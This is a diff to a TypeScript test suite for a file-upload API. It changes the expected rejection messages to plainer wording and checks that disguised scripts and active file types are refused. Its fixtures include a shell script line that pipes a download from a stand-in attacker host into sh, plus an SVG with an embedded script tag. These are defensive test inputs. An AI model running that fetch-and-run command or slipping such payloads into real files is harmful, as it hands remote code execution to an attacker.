@@ -1,5 +1,5 @@
 import { crc32 } from 'node:zlib';
-import { FILE_UPLOAD_MAX_BYTES } from '@partnerly/contracts';
+import { FILE_UPLOAD_MAX_BYTES, uploadTypeNotAllowedMessage } from '@partnerly/contracts';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../test/create-test-app';
@@ -74,19 +74,22 @@ describe('uploads', () => {
     expect(await response.json()).toMatchObject({ error: { code: 'UNAUTHENTICATED' } });
   });
 
-  it('refuses a script renamed .jpg with 415, judging by the bytes', async () => {
+  it('refuses a script renamed .jpg with 415 in plain words, judging by the bytes', async () => {
     const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
-    for (const purpose of ['avatar', 'content', 'document']) {
+    const messages: [string, string][] = [
+      ['avatar', 'Please choose a JPG, PNG or WebP image'],
+      ['content', 'Please choose a JPG, PNG or WebP image, or an MP4, WebM or MOV video'],
+      ['document', 'Please choose an image, a video (MP4, WebM or MOV), a PDF or a text file'],
+    ];
+    for (const [purpose, message] of messages) {
       const response = await upload(owner, form(script, purpose, 'holiday.jpg', 'image/jpeg'));
       expect(response.status).toBe(415);
-      expect(await response.json()).toEqual({
-        error: { code: 'UNSUPPORTED_MEDIA_TYPE', message: 'File type text/x-script is not allowed' },
-      });
+      expect(await response.json()).toEqual({ error: { code: 'UNSUPPORTED_MEDIA_TYPE', message } });
     }
   });
 
   it('refuses other image-like and active types: SVG, TIFF, HTML, executables', async () => {
-    const cases: [Uint8Array, string, string][] = [
+    const cases: [Uint8Array, 'logo' | 'avatar' | 'document', string][] = [
       [
         Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
         'logo',
@@ -108,7 +111,7 @@ describe('uploads', () => {
     for (const [bytes, purpose, type] of cases) {
       const response = await upload(owner, form(bytes, purpose, 'picture.png', 'image/png'));
       expect(response.status, type).toBe(415);
-      expect((await response.json()).error.message).toBe(`File type ${type} is not allowed`);
+      expect((await response.json()).error.message).toBe(uploadTypeNotAllowedMessage(purpose));
     }
   });
 
@@ -119,7 +122,10 @@ describe('uploads', () => {
       const response = await upload(owner, form(image, purpose, 'big.png', 'image/png'));
       expect(response.status).toBe(413);
       expect(await response.json()).toEqual({
-        error: { code: 'PAYLOAD_TOO_LARGE', message: 'File size exceeds 5MB limit' },
+        error: {
+          code: 'PAYLOAD_TOO_LARGE',
+          message: 'This file is too large. Please choose one of 5 MB or less.',
+        },
       });
     }
   });
@@ -140,7 +146,9 @@ describe('uploads', () => {
       body: '--x--',
     });
     expect(response.status).toBe(413);
-    expect((await response.json()).error.message).toBe('File size exceeds 50MB limit');
+    expect((await response.json()).error.message).toBe(
+      'This file is too large. Please choose one of 50 MB or less.',
+    );
   });
 
   it('answers 400 with field messages for a missing file or an unknown purpose', async () => {
